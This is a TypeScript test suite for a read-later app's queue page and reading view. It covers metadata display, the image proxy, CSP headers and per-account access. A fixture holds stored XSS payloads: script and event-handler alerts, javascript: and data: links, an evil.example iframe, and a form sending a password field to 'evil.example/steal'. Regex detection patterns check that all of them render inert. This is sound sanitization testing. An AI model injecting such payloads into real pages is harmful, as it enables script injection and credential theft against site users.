/**
 * The queue page and the reading view show what was read of saved pages (issue 11): title rule, site,
 * reading time, description, thumbnail, clean links; the reading view (`/items/:id`) for the signed-in
 * reader and with the digest token, never another account's page; hostile stored HTML shown inert.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { digestTokenOf, ensureDigestToken } from '../../digest/token.js';
import { ARTICLE, insertPage, linkQueuedPage } from '../../test/pages.js';
import { buildDigestNow } from '../../digest/build.js';
import { saveUrl, testDigestDeps } from '../../test/digestPipeline.js';
import { describeEachEngine, newAccount } from '../../test/harness.js';
import { WebClient, webServer } from '../../test/webClient.js';
import { updateAccountSettings } from '../../store/accounts.js';

const TRACKED = 'https://sea.example/tides?utm_source=newsletter&id=7';

/** An image's link through the media proxy (on by default), as a pattern: its URL is in the path. */
const proxied = (url: string): string =>
  `http://127\\.0\\.0\\.1:8080/media/[\\w-]{22}/${Buffer.from(url).toString('base64url')}`;
/** What pages that show images let load: the proxy's origin, and inline data: images. */
const PROXY_IMG_SRC = "img-src 'self' http://127.0.0.1:8080 data:;";
const HOSTILE_URL = 'https://evil.example/page';

/** Everything an attacker might store in a page's reader HTML. */
const HOSTILE_HTML = [
  '<p>Before</p>',
  '<script>alert("script")</script>',
  '<img src="https://img.evil.example/a.png" onerror="alert(1)" alt="pic">',
  '<a href="javascript:alert(2)">js link</a>',
  '<a href="https://ok.example/" onclick="alert(3)" style="color:red">ok link</a>',
  '<svg onload="alert(4)"><script>alert(5)</script></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed" class="x" id="y">Styled</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<a href="data:text/html,<script>alert(6)</script>">data link</a>',
  '<object data="x.swf"></object><embed src="y.swf"><math><mi>x</mi></math>',
  '<p>After</p>',
].join('');

await describeEachEngine('web app: what was read, on the queue page and in the reading view', (ctx) => {
  let app: FastifyInstance;
  let client: WebClient;
  let other: WebClient;
  let accountId: number;
  let apiKey: string;
  let otherId: number;
  let tidesPage = 0;
  let hostilePage = 0;
  let otherPage = 0;

  before(async () => {
    const store = ctx.store();
    app = webServer(store);
    await app.ready();
    const a = await newAccount(store);
    const b = await newAccount(store);
    accountId = a.id;
    apiKey = a.apiKey;
    otherId = b.id;
    await saveUrl(store, accountId, TRACKED);
    await saveUrl(store, accountId, HOSTILE_URL);
    await saveUrl(store, otherId, 'https://private.example/b');
    tidesPage = await insertPage(store, { url: 'https://sea.example/tides?id=7', ...ARTICLE });
    await linkQueuedPage(store, accountId, TRACKED, tidesPage);
    hostilePage = await insertPage(store, {
      url: HOSTILE_URL,
      title: '<img src=x onerror=alert(7)>Hostile title',
      description: '<script>alert(8)</script> description',
      html: HOSTILE_HTML,
      image_url: 'javascript:alert(9)',
      reading_minutes: 1,
    });
    await linkQueuedPage(store, accountId, HOSTILE_URL, hostilePage);
    otherPage = await insertPage(store, {
      url: 'https://private.example/b',
      title: 'Private to B',
      html: '<p>B</p>',
    });
    await linkQueuedPage(store, otherId, 'https://private.example/b', otherPage);
    await ensureDigestToken(store.db, accountId);
    await ensureDigestToken(store.db, otherId);
    client = new WebClient(app);
    await client.signIn(a.apiKey);
    other = new WebClient(app);
    await other.signIn(b.apiKey);
  });
  after(() => app.close());

  const token = async (id: number): Promise<string> => {
    const t = await digestTokenOf(ctx.store().db, id);
    assert.ok(t !== null);
    return t;
  };

  test('the queue page shows title, site, reading time, description, thumbnail and a Read link; links clean', async () => {
    const res = await client.get('/queue');
    assert.equal(res.statusCode, 200);
    assert.ok(String(res.headers['content-security-policy']).includes(PROXY_IMG_SRC));
    const body = res.body;
    assert.match(
      body,
      /<a class="title" href="https:\/\/sea\.example\/tides\?id=7" rel="noopener noreferrer" dir="auto">How tides are made<\/a>/,
    );
    assert.match(body, /Sea Notes · 6 min read · saved/);
    assert.match(body, /<p class="excerpt" dir="auto">The moon pulls the sea/);
    assert.match(
      body,
      new RegExp(
        `<img\\s+src="${proxied('https://img.sea.example/tides.jpg')}"\\s+width="96"\\s+height="64"\\s+alt="Low tide at dawn"`,
      ),
    );
    assert.match(
      body,
      new RegExp(`<a class="read" href="/items/${tidesPage}" aria-label="Read How tides are made">Read</a>`),
    );
    assert.doesNotMatch(body, /utm_source/);
  });

  test('the API answers exactly {url, title} as stored, whatever was read', async () => {
    const res = await app.inject({ method: 'GET', url: `/api/v1/articles?apiKey=${apiKey}` });
    assert.deepEqual(res.json(), [
      { url: TRACKED, title: TRACKED },
      { url: HOSTILE_URL, title: HOSTILE_URL },
    ]);
  });

  test('hostile page fields are inert on the queue page', async () => {
    const body = (await client.get('/queue')).body;
    assert.match(body, /&lt;img src=x onerror=alert\(7\)&gt;Hostile title/);
    assert.match(body, /&lt;script&gt;alert\(8\)&lt;\/script&gt; description/);
    assert.doesNotMatch(body, /<script|<img src=x|javascript:/);
  });

  test('the reading view, signed in: title, site, author, date, reading time, lead image, text, original link first', async () => {
    const res = await client.get(`/items/${tidesPage}`);
    assert.equal(res.statusCode, 200);
    const csp = String(res.headers['content-security-policy']);
    assert.match(csp, /default-src 'none'/);
    assert.ok(csp.includes(PROXY_IMG_SRC), csp);
    assert.match(csp, /style-src 'self'/);
    assert.doesNotMatch(csp, /script-src|unsafe-inline/);
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    assert.equal(res.headers['referrer-policy'], 'no-referrer');
    const body = res.body;
    assert.match(
      body,
      /<article class="reader" dir="auto" lang="en">\s*<p class="original">\s*<a href="https:\/\/sea\.example\/tides\?id=7"/,
    );
    assert.match(body, /<h1 dir="auto">How tides are made<\/h1>/);
    assert.match(body, /Sea Notes · Marina Flores · 20 November 2026 · 6 min read/);
    assert.match(
      body,
      new RegExp(
        `<img\\s+src="${proxied('https://img.sea.example/tides.jpg')}"\\s+width="640"\\s+height="427"\\s+alt="Low tide at dawn"`,
      ),
    );
    assert.match(
      body,
      /<div class="text" dir="auto"><p>The tide comes in <em>twice<\/em> a day.<\/p><\/div>/,
    );
  });

  test('hostile stored HTML is shown inert: no script, handler, javascript: or data: link, frame, form, style, SVG', async () => {
    const res = await client.get(`/items/${hostilePage}`);
    assert.equal(res.statusCode, 200);
    const text =
      /<div class="text" dir="auto">([\s\S]*?)<\/div>\s*<p class="original">/.exec(res.body)?.[1] ?? '';
    assert.match(text, /<p>Before<\/p>/);
    assert.match(text, /<p>After<\/p>/);
    assert.match(
      text,
      new RegExp(
        `<img src="${proxied('https://img.evil.example/a.png')}" alt="pic" loading="lazy" referrerpolicy="no-referrer" />`,
      ),
    );
    assert.match(text, /<a href="https:\/\/ok\.example\/" rel="noopener noreferrer nofollow">ok link<\/a>/);
    assert.match(text, /<span>js link<\/span>/);
    assert.match(text, /<p>Styled<\/p>/);
    for (const bad of [
      /<script/i,
      /\son\w+=/i,
      /javascript:/i,
      /data:text/i,
      /<svg/i,
      /<iframe/i,
      /<form/i,
      /<input/i,
      /<button/i,
      /<style/i,
      /style=/i,
      /<object/i,
      /<embed/i,
      /<math/i,
      /svg\+xml/i,
    ]) {
      assert.doesNotMatch(text, bad);
    }
    assert.doesNotMatch(res.body, /<script|<img src=x|javascript:/i);
    assert.match(res.body, /<h1 dir="auto">&lt;img src=x onerror=alert\(7\)&gt;Hostile title<\/h1>/);
  });

  test('another account’s page is 404 signed in, and with another account’s token; a valid token opens one’s own', async () => {
    assert.equal((await client.get(`/items/${otherPage}`)).statusCode, 404);
    assert.equal((await other.get(`/items/${tidesPage}`)).statusCode, 404);
    assert.equal((await other.get(`/items/${otherPage}`)).statusCode, 200);
    assert.equal((await client.get('/items/999999')).statusCode, 404);
    const anonymous = new WebClient(app);
    const mine = await anonymous.get(`/items/${tidesPage}?token=${await token(accountId)}`);
    assert.equal(mine.statusCode, 200);
    assert.match(mine.body, /How tides are made/);
    assert.match(String(mine.headers['content-security-policy']), /form-action 'none'/);
    assert.doesNotMatch(mine.body, /Sign out/);
    const theirs = await anonymous.get(`/items/${tidesPage}?token=${await token(otherId)}`);
    assert.equal(theirs.statusCode, 404);
    assert.doesNotMatch(theirs.body, /How tides are made/);
    assert.equal((await anonymous.get(`/items/${tidesPage}?token=not-a-token`)).statusCode, 404);
    const signIn = await anonymous.get(`/items/${tidesPage}`);
    assert.equal(signIn.statusCode, 303);
    assert.match(String(signIn.headers.location), /^\/sign-in\?next=/);
  });

  test('opened from a digest’s link (token, no session): in the account’s language, not the browser’s', async () => {
    await updateAccountSettings(ctx.store().db, accountId, { language: 'ar' });
    try {
      const res = await new WebClient(app).get(`/items/${tidesPage}?token=${await token(accountId)}`, {
        'accept-language': 'en',
      });
      assert.equal(res.statusCode, 200);
      assert.match(res.body, /<html lang="ar" dir="rtl">/);
      assert.match(res.body, /افتح الأصل/);
    } finally {
      await updateAccountSettings(ctx.store().db, accountId, { language: null });
    }
  });

  test('TIDINGS_MEDIA_PROXY=off: the images are linked where they are, and the pages let them load', async () => {
    const direct = webServer(ctx.store(), { mediaProxy: false });
    try {
      const reader = new WebClient(direct);
      await reader.signIn(apiKey);
      const queue = await reader.get('/queue');
      assert.match(String(queue.headers['content-security-policy']), /img-src http: https: data:;/);
      assert.match(queue.body, /<img\s+src="https:\/\/img\.sea\.example\/tides\.jpg"/);
      const reading = await reader.get(`/items/${hostilePage}`);
      assert.match(String(reading.headers['content-security-policy']), /img-src http: https: data:;/);
      assert.match(reading.body, /<img src="https:\/\/img\.evil\.example\/a\.png" alt="pic"/);
      assert.doesNotMatch(reading.body, /\/media\//);
    } finally {
      await direct.close();
    }
  });

  test('images off: no thumbnail on the queue page nor lead image in the reading view; clean links off keeps parameters', async () => {
    await client.get('/settings');
    const form = (await client.get('/settings')).body;
    assert.match(form, /name="images"\s+checked/);
    assert.match(form, /name="clean_links"\s+checked/);
    const saved = await client.post('/settings', {
      timezone: 'UTC',
      time: '07:00',
      days: 'mon',
      max_items: '100',
      email: '',
      skip_empty: 'on',
    });
    assert.equal(saved.statusCode, 303, saved.body);
    const settings = (await client.get('/settings')).body;
    assert.doesNotMatch(settings, /name="images"\s+checked/);
    assert.doesNotMatch(settings, /name="clean_links"\s+checked/);
    const queue = (await client.get('/queue')).body;
    assert.doesNotMatch(queue, /<img/);
    assert.match(queue, /href="https:\/\/sea\.example\/tides\?utm_source=newsletter&amp;id=7"/);
    const reading = (await client.get(`/items/${tidesPage}`)).body;
    assert.doesNotMatch(reading, /tides\.jpg|\/media\/|<img/);
    assert.match(reading, /<a href="https:\/\/sea\.example\/tides\?utm_source=newsletter&amp;id=7"/);
  });

  test('the digest web page lets its thumbnails load (img-src) and links to the reading view with the token', async () => {
    const built = await buildDigestNow(testDigestDeps(ctx.store()), accountId);
    assert.equal(built.status, 'built');
    const digestId = built.digestId;
    const t = await token(accountId);
    const res = await app.inject({ method: 'GET', url: `/digests/${digestId}?token=${t}` });
    assert.equal(res.statusCode, 200);
    assert.ok(String(res.headers['content-security-policy']).includes(PROXY_IMG_SRC));
    assert.match(res.body, /How tides are made/);
    const read = new RegExp(`href="http://127\\.0\\.0\\.1:8080/items/${tidesPage}\\?token=${t}"`);
    assert.match(res.body, read);
    // The item left the queue: its page is still readable through the digest.
    const anonymous = new WebClient(app);
    assert.equal((await anonymous.get(`/items/${tidesPage}?token=${t}`)).statusCode, 200);
    assert.equal((await client.get(`/items/${tidesPage}`)).statusCode, 200);
  });
});
